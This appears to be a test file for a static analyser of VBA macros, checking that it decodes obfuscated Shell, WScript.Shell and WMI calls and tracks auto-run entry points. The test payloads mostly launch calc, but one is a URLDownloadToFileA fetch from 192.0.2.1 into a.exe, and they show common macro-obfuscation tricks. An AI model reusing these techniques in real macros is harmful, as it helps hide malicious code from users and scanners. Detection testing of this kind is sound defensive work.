import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { LIMITS } from '#inspect/core/limits.ts'
import { withinBudget } from '#inspect/core/work.ts'
import { assertCheap } from '#inspect/testing/cpu-time.ts'
import { type BasicEffect, CODE_TEXTS_MAX, readBasic } from './basic.ts'
import { CALL_DEPTH_MAX } from './evaluate.ts'
import { MEMBERS_MAX, NESTING_MAX } from './expressions.ts'
import { ELEMENTS_MAX, TEXT_MAX } from './functions.ts'
import { ITERATIONS_MAX } from './machine.ts'
import { createMemory } from './memory.ts'
import { PARSED_MAX, PROCEDURES_MAX } from './program.ts'
import { AUTOMATIC, CALLED, OutOfSteps, RECORDED_MAX, type State, store, UNTAKEN, VARIABLES_MAX } from './state.ts'
import { BLOCKS_MAX } from './statements.ts'
import type { StoredValues } from './stored-values.ts'
import { withoutOrigins } from './values.ts'

const read = (text: string, options?: Parameters<typeof readBasic>[1]) => readBasic([{ name: 'a', text }], options)
const macro = (body: string): string => `Sub AutoOpen()\n${body}\nEnd Sub\n`
const effectsOf = (text: string): string[] => read(text).effects.map(({ kind, text: what }) => `${kind} ${what}`)
/** The command that the macro starts. */
const started = (body: string, rest = ''): string | undefined =>
  read(macro(body) + rest).effects.find(({ kind }) => kind === 'start')?.text

suite('expressions are folded', () => {
  const cases: Record<string, string> = {
    'Shell "c" & "al" + "c"': 'calc',
    'Shell Chr(99) & ChrW$(97) & Chr(&H6C) & Chr(CLng("&H63"))': 'calc',
    'Shell StrReverse("clac")': 'calc',
    'Shell Replace("cXXalXXc", "XX", "")': 'calc',
    'Shell Replace("cxXalXxc", "XX", "", 1, -1, vbTextCompare)': 'calc',
    'Shell Join(Array("c", "al", "c"), "")': 'calc',
    'Shell Join(Split("c-a-l-c", "-"), vbNullString)': 'calc',
    'Shell Mid("xxcalcxx", 3, 4)': 'calc',
    'Shell Left("calcxx", 4) & Right(".exe.exe", 4)': 'calc.exe',
    'Shell LCase("CALC")': 'calc',
    'Shell Trim("  calc ")': 'calc',
    'Shell Chr(90 + 3 * 3) & Chr(7 Xor 102) & Chr(108 And 255) & Chr(198 \\ 2)': 'calc',
    'Shell Chr(2 ^ 6 + 35) & Chr(1097 Mod 1000) & "lc"': 'calc',
    'Shell Environ("TEMP") & "\\a.exe"': '%temp%\\a.exe',
    'Shell unknown(1) & ".exe"': '\ufffd.exe',
    'Shell StrConv(StrConv("calc", vbFromUnicode), vbUnicode)': 'calc',
    'Shell IIf(1 > 2, "no", "calc")': 'calc',
    'Shell Choose(2, "a", "calc")': 'calc',
    'Shell Split("no calc no")(1)': 'calc',
    'Shell Chr(CInt(98.5) + 1) & Chr(CLng(97.5) - 1) & Chr(Round(108.5)) & Chr(Round(98.96, 1) + 0.04)': 'calc',
    'Dim n As Integer\nn = 197 / 2\nShell Chr(n + 1) & "alc"': 'calc',
    'Dim n As Long, m\nn = 201 / 2: m = 195 / 2\nShell Chr(n - 1) & Chr(m - 0.5) & "lc"': 'calc',
    'Range("A1").Value = "calc"\nShell Range("A1").Value': 'calc',
    'Cells(1, 2) = "ca": [B1].Select\nShell Range("$B$1") & Cells(1, 2).Offset(0, 0).Text': 'caca',
    'Set c = Sheets(1).Range("C5")\nc.Value = "calc"\nShell Worksheets(1).Cells(5, "C")': 'calc',
    'With ActiveSheet: .Range("D4") = "calc": End With\nShell ActiveSheet.Cells(3, 3).Offset(1, 1).Value': 'calc',
    'ActiveDocument.Variables.Add "k", "calc"\nShell ActiveDocument.Variables("k").Value': 'calc',
    'ActiveDocument.Variables("k") = "calc"\nShell ThisDocument.Variables("K")': 'calc',
    'ActiveWorkbook.CustomDocumentProperties.Add "k", False, 4, "calc"\nShell ActiveWorkbook.CustomDocumentProperties("k").Value':
      'calc',
    'Set r = CreateObject("VBScript.RegExp")\nr.Global = True: r.Pattern = "[xyz#]+"\nShell r.Replace("xcyyzalz##c", "")':
      'calc',
    'Set r = New RegExp\nr.Pattern = "X": r.IgnoreCase = True\nShell r.Replace("xcalc", "")': 'calc',
    'Set r = New RegExp\nr.Pattern = "(a|b)+c"\nShell r.Replace("calc", "")': '\ufffd',
    'Shell VBA.Strings.Chr$(99) & VBA.Mid("alc", 1)': 'calc',
    'Shell ("calc") & ".exe", 0': 'calc.exe',
    'Call Shell("calc")': 'calc',
    'x = Shell("calc", 1)': 'calc',
    'Shell _\n  "ca" & _\n  "lc"': 'calc',
    'Shell "calc" \' Shell "no"': 'calc',
    'Rem Shell "no"\nShell "calc"': 'calc',
    'a = "ca": b = "lc": Shell a & b': 'calc',
    'If 1 = 1 Then Shell "calc" Else Shell "no"': 'calc',
    'If 1 = 2 Then\nShell "no"\nElseIf 3 > 2 Then\nShell "calc"\nEnd If': 'calc',
    'If Application.Version > 5 Then Exit Sub\nShell "calc"': 'calc',
    'Select Case 7\nCase 1 To 3: Shell "no"\nCase Is > 6: Shell "calc"\nEnd Select': 'calc',
    'For i = 4 To 1 Step -1: s = s & Mid("clac", i, 1): Next\nShell s': 'calc',
    'For Each c In Array(99, 97, 108, 99): s = s & Chr(c): Next\nShell s': 'calc',
    'For Each c In Array(106, 104, 101, 106): s = s & Chr(c Xor 9): Next\nShell s': 'calc',
    'Do While Len(s) < 3\ns = s & "a"\nLoop\nShell s': 'aaa',
    'Do\ns = s & "a"\nLoop Until Len(s) = 2\nShell s': 'aa',
    'While Len(s) < 2: s = s & "b": Wend\nShell s': 'bb',
    'Dim a(3) As String\na(0) = "ca": a(1) = "lc"\nShell a(0) & a(1)': 'calc',
    'With CreateObject("WScript.Shell")\n.Run "calc", 0\nEnd With': 'calc',
    'CreateObject("WScr" & "ipt.Shell").Exec "calc"': 'calc',
    'CallByName CreateObject("WScript.Shell"), "R" & "un", 1, "calc"': 'calc',
    'GetObject("winmgmts:\\\\.\\root\\cimv2").Get("Win32_Process").Create "calc"': 'calc',
    'GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Run "calc"': 'calc',
    'Set e = CreateObject("Msxml2.DOMDocument").createElement("a")\ne.DataType = "bin.base64"\ne.Text = "Y2FsYw=="\nShell StrConv(e.nodeTypedValue, 64)':
      'calc',
    'Set d = CreateObject("Scripting.Dictionary")\nd.Add "x", "ca"\nd("y") = "lc"\nShell d("x") & d.Item("y")': 'calc',
    'Set d = CreateObject("Scripting.Dictionary")\nd.Add 1, "ca"\nd.Add 2, "lc"\nShell Join(d.Items, "")': 'calc',
    'Dim c As New Collection\nc.Add "ca"\nc.Add "lc", "k"\nShell c(1) & c("k")': 'calc',
    'Dim c As New Collection\nc.Add "ca"\nc.Add "lc"\nFor Each x In c: s = s & x: Next\nShell s': 'calc',
    'Dim t As Pair\nt.a = "ca"\nWith t\n.b = "lc"\nEnd With\nShell t.a & t.b': 'calc',
    's = "xxxx"\nMid(s, 1, 2) = "calc": Mid$(s, 3) = "lcx"\nShell s': 'calc',
    '#If VBA7 Then\ns = "calc"\n#Else\ns = "no"\n#End If\nShell s': 'calc',
    'Shell Filter(Split("no calc"), "a")(0)': 'calc',
    '[Shell] "calc"': 'calc',
    'Shell WindowStyle:=0, PathName:="calc"': 'calc',
    'Shell Replace(Replace:="l", Find:="X", Expression:="caXc")': 'calc',
    'CreateObject("WScript.Shell").Run WaitOnReturn:=True, Command:="calc"': 'calc',
    'VBA _\n.Shell "calc"': 'calc',
    'VBA  _\n  . _\n  Shell "calc"': 'calc',
    'Set s = New Shell32.Shell\ns.Open "calc"': 'calc',
    'Dim s As New Shell\ns.Open "calc"': 'calc',
    'SHELL "calc"': 'calc',
  }
  for (const [body, command] of Object.entries(cases)) test(body, () => assert.equal(started(body), command))

  test('functions of the program', () => {
    const decode =
      'Function D(s, k)\nDim i\nFor i = 1 To Len(s)\nD = D & Chr(Asc(Mid(s, i, 1)) - k)\nNext i\nEnd Function\nSub Add(ByRef s)\ns = s & ".exe"\nEnd Sub'
    assert.equal(started('s = D("dbmd", 1)\nAdd s\nShell s', decode), 'calc.exe')
  })

  test('arguments by name, and those that are left out', () => {
    const run =
      'Sub Run2(Optional a As String = "ca", Optional b = "lc", Optional c = vbNullString)\nShell a & b & c\nEnd Sub'
    for (const [call, command] of Object.entries({
      Run2: 'calc',
      'Run2 "no"': 'nolc',
      'Run2 , "ke"': 'cake',
      'Run2 b:="ke"': 'cake',
      'Run2 c:=".exe"': 'calc.exe',
      'Run2 c:=".exe", a:="m"': 'mlc.exe',
    }))
      assert.equal(started(call, run), command, call)
  })

  test('constants and variables of the module', () => {
    assert.equal(
      read(`Private Const A = "ca"\nDim B\n${macro('B = "lc"\nC')}Sub C()\nShell A & B\nEnd Sub`).effects[0]?.text,
      'calc',
    )
  })

  test('a function of a library is known by its own name', () => {
    const declare =
      'Private Declare PtrSafe Function g Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long) As Long\n'
    assert.deepEqual(effectsOf(declare + macro('g 0, "http://192.0.2.1/a", "a.exe", 0, 0')), [
      'fetch http://192.0.2.1/a a.exe',
    ])
  })

  test('a function of the language, although the program has one of the same name', () => {
    assert.equal(
      started('Shell VBA.Replace("cXalc", "X", "")', 'Function Replace(a, b, c)\nReplace = "no"\nEnd Function'),
      'calc',
    )
  })

  test('values that jumps bring from below', () => {
    for (const body of [
      'GoSub w\nShell s\nExit Sub\nw:\ns = "calc"\nReturn',
      'GoTo a\nb:\nShell s\nExit Sub\na:\ns = "calc"\nGoTo b',
    ])
      assert.ok(effectsOf(macro(body)).includes('start calc'), body)
  })

  test('code in texts', () => {
    assert.deepEqual(effectsOf(macro('ExecuteGlobal "Shell ""ca"" & ""lc"""')).at(-1), 'start calc')
  })
})

suite('modules and what the document stores', () => {
  const startedIn = (modules: Record<string, string>, options?: Parameters<typeof readBasic>[1]): string | undefined =>
    readBasic(
      Object.entries(modules).map(([name, text]) => ({ name, text })),
      options,
    ).effects.find(({ kind }) => kind === 'start')?.text
  const cells: StoredValues['cells'] = {
    sheets: ['data', 'other'],
    at: ({ sheet, row, column }) =>
      new Map<string, string | number>([
        ['data0,0', 'ca'],
        ['other4,2', 'lc'],
        ['data1,1', 9],
      ]).get(`${sheet}${row},${column}`),
    names: new Map([['part', { sheet: 'other', row: 4, column: 2 }]]),
  }
  const stored: StoredValues = {
    cells,
    controls: new Map([
      ['form1.a.value', 'ca'],
      ['form1.a', 'ca'],
      ['form1.a.tag', 'lc'],
      ['form1.tag', 'calc'],
    ]),
    texts: new Map([
      ['variables(k)', 'calc'],
      ['customdocumentproperties(k)', 'calc'],
    ]),
  }
  const cases: Record<string, Record<string, string>> = {
    'a class prepares its fields': {
      M: macro('Dim k As New Kls\nk.Fire'),
      Kls: 'Private c\nSub Class_Initialize()\nc = "calc"\nEnd Sub\nSub Fire()\nShell c\nEnd Sub',
    },
    'fields of an instance': {
      M: macro('Set k = New Kls\nk.Cmd = "ca"\nk.Fire'),
      Kls: 'Public Cmd As String\nSub Fire()\nShell Me.Cmd & "lc"\nEnd Sub',
    },
    'properties with procedures': {
      M: macro('Set k = New Kls\nk.Cmd = "clac"\nShell k.Cmd'),
      Kls: 'Private c\nProperty Let Cmd(v)\nc = StrReverse(v)\nEnd Property\nProperty Get Cmd()\nCmd = c\nEnd Property',
    },
    'a property that another module assigns': {
      M: macro('Part = "ca"\nPart = "lc"\nShell Whole'),
      P: 'Private w\nPublic Property Let Part(v)\nw = w & v\nEnd Property\nPublic Property Get Whole()\nWhole = w\nEnd Property',
    },
    'static variables': { M: `${macro('A "ca"\nA "lc"')}Sub A(p)\nStatic s\ns = s & p\nShell s\nEnd Sub` },
    'arrays from 1': { M: `Option Base 1\n${macro('a = Array("ca", "lc")\nShell a(LBound(a)) & a(UBound(a))')}` },
    'cells by sheet, name and number': { M: macro('Shell Sheets("Data").Range("A1").Value & Sheets(2).Cells(5, 3)') },
    'cells of any sheet, and names': { M: macro('Shell ActiveSheet.Range("a1") & Range("part").Value') },
    'cells of the module of a sheet': {
      M: macro('Shell Sheet1.Cells(1, 1) & Tabelle2.[C5]\nShell Sheet1.Range("A1") & Tabelle2.Range("C5")'),
    },
    'controls by their form': {
      M: macro('Shell Form1.A.Value & Form1.Controls("A").Tag\nShell Form1.A & Form1.A.Tag'),
      Form1: '',
    },
    'controls in their form': { M: macro('Form1.Go'), Form1: 'Sub Go()\nShell A & Me.A.Tag\nEnd Sub' },
    'the form itself': { M: macro('Shell Form1.Tag'), Form1: '' },
    variables: { M: macro('Shell ActiveDocument.Variables("K").Value') },
    properties: { M: macro('Shell ActiveWorkbook.CustomDocumentProperties("k")') },
  }
  for (const [name, modules] of Object.entries(cases))
    test(name, () => {
      const found = readBasic(
        Object.entries(modules).map(([module, text]) => ({ name: module, text })),
        { stored },
      )
      assert.ok(
        found.effects.some(({ kind, text }) => kind === 'start' && text === 'calc'),
        startedIn(modules, { stored }),
      )
    })
  test('what is not stored stays unknown', () => {
    assert.equal(startedIn({ M: macro('Shell Range("Z9")') }, { stored }), '\ufffd')
    assert.equal(startedIn({ M: macro('Shell Form1.B.Caption') }, { stored })?.startsWith('\ufffd'), true)
    assert.equal(
      startedIn({ M: macro('Shell ActiveDocument.Variables("x").Value') }, { stored })?.startsWith('\ufffd'),
      true,
    )
  })
})

suite('a branch that is not taken is judged as well', () => {
  const cases: Record<string, string> = {
    'a condition': 'If CInt(0.5) = 1 Then Shell "calc"',
    'another branch': 'If 1 = 1 Then\nx = 1\nElse\nShell "ca" & "lc"\nEnd If',
    'a case': 'Select Case 1\nCase 1: x = 1\nCase 2: Shell "calc"\nEnd Select',
    'code after an exit': 'If 1 = 1 Then Exit Sub\nShell "calc"',
    'a loop without a round': 'For i = 1 To 0: Shell "calc": Next',
    'a loop that is left': 'Do While True\nIf 1 = 1 Then Exit Do\nShell "calc"\nLoop',
    'a branch in a branch': 'c = "calc"\nIf 1 = 2 Then\nIf 3 = 4 Then\nShell c\nEnd If\nEnd If',
    'an object of a block':
      'With CreateObject("WScript.Shell")\nIf 1 = 2 Then\nWith .Environment\nEnd With\n.Run "calc"\nEnd If\nEnd With',
    'a variable of another event': 'If armed = 1 Then Shell "calc"\nEnd Sub\nSub Document_Open()\narmed = 1',
  }
  for (const [name, body] of Object.entries(cases)) test(name, () => assert.equal(started(body), 'calc'))

  test('in a script', () => {
    const { effects } = read('If 1 = 2 Then\nCreateObject("WScript.Shell").Run "calc"\nEnd If', { isScript: true })
    assert.equal(effects.find(({ kind }) => kind === 'start')?.text, 'calc')
  })
  test('but not for an unknown or empty command', () => {
    assert.equal(started('p = ""\nIf p <> "" Then Shell p'), undefined)
    assert.equal(started('If 1 = 2 Then Shell Range("A1")'), undefined)
  })
})

suite('reach', () => {
  const automatic = (text: string, options?: Parameters<typeof readBasic>[1]) =>
    read(text, options).effects.map((effect: BasicEffect) => effect.isAutomatic)

  test('a procedure that nothing calls is not automatic', () => {
    assert.deepEqual(automatic('Sub Button1_Click()\nShell "calc"\nEnd Sub'), [false])
  })
  test('a procedure that an automatic one calls is', () => {
    assert.deepEqual(automatic(`${macro('B')}Sub B()\nC\nEnd Sub\nSub C()\nShell "calc"\nEnd Sub`), [true])
  })
  test('also by a built name, and through a form', () => {
    assert.deepEqual(automatic(`${macro('Application.Run "B" & "1"')}Sub B1()\nShell "calc"\nEnd Sub`), [true])
    assert.deepEqual(automatic(`${macro('UserForm1.Show')}Sub UserForm_Initialize()\nShell "calc"\nEnd Sub`), [true])
  })
  test('a script runs from the top', () => {
    assert.deepEqual(automatic('Shell "calc"', { isScript: true }), [true])
    assert.deepEqual(automatic('B\nSub B()\nShell "calc"\nEnd Sub', { isScript: true }), [true])
  })
  test('callbacks can be named', () => {
    assert.deepEqual(automatic('Sub Loaded(r)\nShell "calc"\nEnd Sub', { triggers: ['Loaded'] }), [true])
  })
})

suite('limits', () => {
  const incomplete = (text: string): boolean => read(text).isIncomplete

  const waste = (rounds: number): string =>
    `For j = 1 To ${Math.ceil(rounds / 1000)}: For i = 1 To 1000: x = 1: Next: Next`
  const STEPS_PER_ROUND = 2
  /** A statement that takes as many steps, besides a few. */
  const sum = (steps: number): string => `x=1${'+1'.repeat(steps)}`

  test('steps of one entry point', () => {
    assert.equal(incomplete(macro(sum(AUTOMATIC.stepsPerEntry - 100))), false)
    assert.equal(incomplete(macro(sum(AUTOMATIC.stepsPerEntry + 100))), true)
  })

  test('a loop takes a part of the steps that are left, and what it changes is unknown afterwards', () => {
    const { effects, isIncomplete } = read(macro(`${waste(60_000_000)}\nShell "calc " & x & i`))
    assert.deepEqual([effects[0]?.text, isIncomplete], ['calc \ufffd\ufffd', false])
  })

  test('past a limit, nothing that acts on the computer is passed over', () => {
    const isCut = (code: string, rest = ''): boolean =>
      read(`${rest}${macro(`x = String(${TEXT_MAX + 1}, "a")\nB`)}Sub B()\nq = StrReverse(q)\n${code}\nEnd Sub`).isCut
    for (const code of [
      'c = DDEInitiate(q(1), q(2))',
      'x.loadXML q(2)\nx.transformNode x',
      'h.Open "GET", q(1) \' XMLHTTP',
      'Open q(1) For Output As #1',
      'Application.ExecuteExcel4Macro q(3)',
      's.SaveToFile q(1)',
    ])
      assert.ok(isCut(code), code)
    assert.ok(
      isCut('g q(1)', 'Private Declare Function g Lib "wininet" Alias "InternetOpenUrlA" (ByVal a As Long) As Long\n'),
    )
    for (const code of ['Range("A1").Value = q(1)', 'Open q(1) For Input As #1', 'MsgBox "Done"'])
      assert.ok(!isCut(code), code)
  })

  test('an entry point that takes all its steps does not hide the next', () => {
    const text = `${macro(waste(60_000_000))}Sub Document_Open()\nShell "calc"\nEnd Sub`
    assert.equal(read(text).effects.length, 1)
  })

  test('steps of all entry points', () => {
    const many = (count: number): string =>
      Array.from(
        { length: count },
        (_, i) => `Sub A${i}_Change()\n${sum(AUTOMATIC.stepsPerEntry - 100)}\nEnd Sub\n`,
      ).join('')
    const fits = Math.floor(AUTOMATIC.steps / AUTOMATIC.stepsPerEntry)
    assert.equal(incomplete(many(fits)), false)
    assert.equal(incomplete(many(fits + 1)), true)
  })

  test('steps of code that needs a call', () => {
    const effects = (steps: number): number => read(`Sub A()\n${sum(steps)}\nShell "a"\nEnd Sub`).effects.length
    assert.equal(effects(CALLED.stepsPerEntry - 100), 1)
    assert.equal(effects(CALLED.stepsPerEntry + 100), 0)
  })

  test('iterations of one loop', () => {
    const count = (to: number): string | undefined => started(`For i = 1 To ${to}: n = n + 1: Next\nShell n`)
    assert.equal(count(ITERATIONS_MAX), String(ITERATIONS_MAX))
    assert.equal(count(ITERATIONS_MAX + 1), '\ufffd')
  })

  test('calls inside each other', () => {
    const recursion = 'Function R(n)\nIf n = 0 Then R = "z" Else R = R(n - 1)\nEnd Function'
    const depth = (calls: number): string | undefined => started(`Shell R(${calls - 2})`, recursion)
    assert.equal(depth(CALL_DEPTH_MAX), 'z')
    const texts = (calls: number): string[] =>
      read(macro(`Shell R(${calls - 2})`) + recursion).effects.map(({ text }) => text)
    assert.deepEqual(texts(CALL_DEPTH_MAX), ['z'])
    // Its possible results are known, and that there may be others.
    assert.deepEqual(texts(CALL_DEPTH_MAX + 1).map(withoutOrigins), ['z', '\ufffd'])
    const mayExecute = (calls: number): boolean => read(macro(`Shell R(${calls - 2})`) + recursion).mayExecute
    assert.deepEqual([mayExecute(CALL_DEPTH_MAX), mayExecute(CALL_DEPTH_MAX + 1)], [false, false])
    const decodes = `x = StrReverse("x")\nShell R(${CALL_DEPTH_MAX})`
    assert.equal(read(macro(decodes) + recursion).mayExecute, true)
    assert.equal(read(macro(`x = R(${CALL_DEPTH_MAX})`) + recursion).mayExecute, false)
    const folders = 'Sub W(f)\nFor Each g In f.SubFolders\nW g\nNext\nEnd Sub'
    assert.equal(read(`${macro('W x\nShell "explorer " & y')}${folders}`).isIncomplete, false)
    const deep = `Function D(n)\nD = ${'('.repeat(50)}D(n + 1)${')'.repeat(50)}\nEnd Function`
    assert.equal(read(macro('Shell D(1)') + deep).isIncomplete, true)
  })

  test('branches that are not taken', () => {
    const branch = (steps: number): string => `If 1 = 2 Then\n${'x = 1\n'.repeat(steps / STEPS_PER_ROUND)}End If`
    assert.equal(incomplete(macro(branch(UNTAKEN.stepsPerEntry - 100))), false)
    assert.equal(incomplete(macro(branch(UNTAKEN.stepsPerEntry + 100))), true)
    const many = (steps: number): string =>
      Array.from({ length: 20 }, (_, i) => `Sub A${i}_Change()\n${branch(steps / 20)}\nEnd Sub\n`).join('')
    assert.equal(incomplete(many(UNTAKEN.steps - 2_000)), false)
    assert.equal(incomplete(many(UNTAKEN.steps + 2_000)), true)
  })

  test('parentheses inside each other', () => {
    const nested = (levels: number): string | undefined =>
      started(`Shell ${'('.repeat(levels)}"a"${')'.repeat(levels)}`)
    assert.equal(nested(NESTING_MAX - 1), 'a')
    assert.equal(nested(NESTING_MAX + 1), undefined)
  })

  test('members after each other', () => {
    const members = (count: number): string | undefined => started(`a${'.b'.repeat(count - 1)}.run "a.exe"`)
    assert.equal(members(MEMBERS_MAX), 'a.exe')
    assert.equal(members(MEMBERS_MAX + 1), undefined)
  })

  test('blocks inside each other', () => {
    const nested = (levels: number): string | undefined =>
      started(`${'If True Then\n'.repeat(levels)}Shell "a"\n${'End If\n'.repeat(levels)}`)
    assert.equal(nested(BLOCKS_MAX), 'a')
    assert.doesNotThrow(() => nested(BLOCKS_MAX + 1))
  })

  test('characters of one text', () => {
    const text = (length: number): string | undefined => started(`Shell Len(String(${length}, "a"))`)
    assert.equal(text(TEXT_MAX), String(TEXT_MAX))
    assert.equal(text(TEXT_MAX + 1), '\ufffd')
    const joined = (length: number): boolean =>
      read(macro(`s = String(${length - 1}, "a") & "b"\nShell Right(s, 1)`)).mayExecute
    assert.deepEqual([joined(TEXT_MAX), joined(TEXT_MAX + 1)], [false, true])
    for (const long of ['Replace(s, "a", "aa")', 'Join(Array(s, "b"))', `Space(${TEXT_MAX + 1})`, 's & s']) {
      assert.equal(read(macro(`s = String(${TEXT_MAX}, "a")\nShell ${long}`)).mayExecute, true, long)
      assert.equal(read(macro(`s = String(${TEXT_MAX}, "a")\nMsgBox ${long}`)).mayExecute, false, long)
    }
  })

  test('characters of all texts', () => {
    const texts = (count: number): string => macro(`s = String(${TEXT_MAX}, "a")\n${'t = LCase(s)\n'.repeat(count)}`)
    const fits = AUTOMATIC.charactersPerEntry / TEXT_MAX
    assert.equal(incomplete(texts(fits - 1)), false)
    assert.equal(incomplete(texts(fits + 1)), true)
  })

  test('elements of an array', () => {
    const last = (at: number): string | undefined => started(`Dim a(9)\na(${at}) = "x"\nShell a(${at})`)
    assert.equal(last(ELEMENTS_MAX - 1), 'x')
    // Past it, each may be the one.
    const other = (at: number): string | undefined => started(`Dim a(9)\na(${at}) = "x"\nShell a(3)`)
    assert.deepEqual([other(ELEMENTS_MAX - 1), other(ELEMENTS_MAX)], ['', 'x'])
    const mayExecute = (at: number): boolean => read(macro(`Dim a(9)\na(${at}) = "x"\nShell a(${at})`)).mayExecute
    assert.deepEqual([mayExecute(ELEMENTS_MAX - 1), mayExecute(ELEMENTS_MAX)], [false, false])
  })

  test('recorded calls', () => {
    const calls = (count: number): string => macro(`For i = 1 To ${count}: Shell "a" & i: Next`)
    assert.equal(incomplete(calls(RECORDED_MAX)), false)
    assert.equal(incomplete(calls(RECORDED_MAX + 1)), true)
  })

  test('texts that are run as code', () => {
    const texts = (count: number): number =>
      read(macro(`For i = 1 To ${count}: Execute "Shell ""a" & i & """": Next`)).effects.filter(
        ({ kind }) => kind === 'start',
      ).length
    // Each where it stands, and so many again, as programs.
    assert.equal(texts(CODE_TEXTS_MAX), 2 * CODE_TEXTS_MAX)
    assert.equal(texts(CODE_TEXTS_MAX + 1), 2 * CODE_TEXTS_MAX + 1)
  })

  test('the same call counts once, so that a loop does not fill the list', () => {
    assert.equal(started(`For i = 1 To ${RECORDED_MAX + 1}: CreateObject "a.b": Next\nShell "calc"`), 'calc')
  })

  test('code after a loop, a text or calls that take all there is', () => {
    const objects = `For i = 1 To ${RECORDED_MAX}: CreateObject "a" & i: Next`
    const texts = `For i = 1 To 999: t = String(${TEXT_MAX}, "a"): Next`
    for (const junk of [waste(60_000_000), objects, texts]) {
      const { effects, mayExecute } = read(macro(`${junk}\nCreateObject(Chr(87) & "Script.Shell").Run "calc"`))
      assert.ok(mayExecute || effects.some(({ kind, text }) => kind === 'start' && text === 'calc'), junk)
      assert.equal(read(macro(`${junk}\nMsgBox "done"`)).mayExecute, false)
    }
    assert.equal(started(`${waste(60_000_000)}\nShell "calc"`), 'calc')
  })

  test('an entry point that acts is run, whatever the others took', () => {
    const many = Array.from({ length: 60 }, (_, i) => `Sub A${i}_Change()\n${waste(60_000_000)}\nEnd Sub\n`).join('')
    const last = `Sub Z_Change()\n${waste(60_000_000)}\nShell "calc"\nEnd Sub`
    assert.deepEqual(
      read(many + last).effects.map(({ text }) => text),
      ['calc'],
    )
  })

  test('variables', () => {
    const state = { variables: VARIABLES_MAX - 1, memory: createMemory() } as State
    store(state, new Map(), 'a', 1)
    assert.throws(() => store(state, new Map(), 'b', 1), OutOfSteps)
  })

  test('procedures', () => {
    const many = (count: number): string =>
      `${Array.from({ length: count - 1 }, (_, i) => `Sub p${i}()\nEnd Sub`).join('\n')}\n${macro('Shell "calc"')}`
    const { effects, isCut } = read(many(PROCEDURES_MAX))
    assert.deepEqual([effects.length, isCut], [1, false])
    assert.equal(read(many(PROCEDURES_MAX + 1)).isCut, true)
  })

  test('characters that are parsed', () => {
    const filler = (length: number): string => macro(`'${'x'.repeat(length)}`)
    const rest = filler(0).length - 1
    assert.equal(incomplete(filler(PARSED_MAX - rest - 10)), false)
    assert.equal(incomplete(filler(PARSED_MAX)), true)
  })
})

test('ten megabytes of ordinary macros take a fraction of what is allowed', () => {
  const procedure = (i: number): string =>
    `Private Function Calc${i}(ByVal x As Double, y As String) As Double\r\n  Dim a As Double, i As Long ' comment\r\n  For i = 1 To 10\r\n    a = a + x * i + Len(y)\r\n    If a > 100 Then Cells(i, 2).Value = "Result " & CStr(a) & Chr(13) Else Debug.Print "none"\r\n  Next i\r\n  Shell "notepad.exe " & y\r\n  Calc${i} = a\r\nEnd Function\r\n`
  const start = macro(Array.from({ length: 400 }, (_, i) => `Calc${i} 1, "x"`).join('\r\n'))
  const modules = Array.from({ length: 50 }, (_, m) => ({
    name: `m${m}`,
    text: Array.from({ length: 750 }, (_, i) => procedure(m * 750 + i)).join(''),
  }))
  assert.ok(modules.reduce((sum, { text }) => sum + text.length, 0) > 10_000_000)
  let effects = 0
  assertCheap(() => {
    const { exceeded, work, keptBytes } = withinBudget(LIMITS, () => {
      effects = readBasic([{ name: 'start', text: start }, ...modules]).effects.length
    })
    assert.equal(exceeded, false)
    assert.ok(work < LIMITS.workMax / 2, `${work}`)
    assert.ok(keptBytes < LIMITS.keptBytesMax / 2, `${keptBytes}`)
  })
  assert.ok(effects > 0)
})

test('a dialog in AppleScript starts nothing, a shell command does', () => {
  const script = (text: string): string[] => read(macro(`MacScript ${text}`)).effects.map(({ kind }) => kind)
  assert.deepEqual(script('"choose file default location alias """ & ThisWorkbook.Path & """"'), [])
  assert.deepEqual(script('"do shell script ""curl " & ThisWorkbook.Path & """"'), ['start'])
  assert.deepEqual(script('Range("A1").Value'), ['start'])
})

test('what a loop over unknown text builds is unknown, and so is the object of that name', () => {
  const decode = `Function Decode(h)
For i = 1 To Len(h) Step 2
Decode = Decode & Chr(Val("&H" & Mid(h, i, 2)))
Next
End Function`
  const { effects } = read(`${decode}\n${macro('CreateObject(Decode(ActiveDocument.Variables("a").Value)).Exec "a"')}`)
  assert.deepEqual([...new Set(effects.map(({ kind }) => kind))].sort(), ['object', 'start'])
})

suite('hostile texts', () => {
  const big = 1_500_000
  const texts: Record<string, () => string> = {
    quotes: () => '"'.repeat(big),
    apostrophes: () => "'".repeat(big),
    'open parentheses': () => macro(`x = ${'('.repeat(big)}`),
    'open blocks': () => macro('If a Then\n'.repeat(big / 10)),
    'unary signs': () => macro(`x = ${'-'.repeat(big)}1`),
    continuations: () => ' _\n'.repeat(big / 3),
    headers: () => 'Sub AutoOpen()\n'.repeat(big / 15),
    concatenations: () => macro(`x = "a"${' & "a"'.repeat(big / 6)}`),
    'calls of itself': () => macro('AutoOpen\n'.repeat(big / 9)),
    declarations: () => 'Declare Function a Lib "b"\n'.repeat(big / 27),
    brackets: () => '['.repeat(big),
    members: () => macro(`x${'.a'.repeat(big / 2)}`),
  }
  for (const [name, create] of Object.entries(texts))
    test(name, () => {
      const text = create()
      assertCheap(() => read(text), name)
    })
})
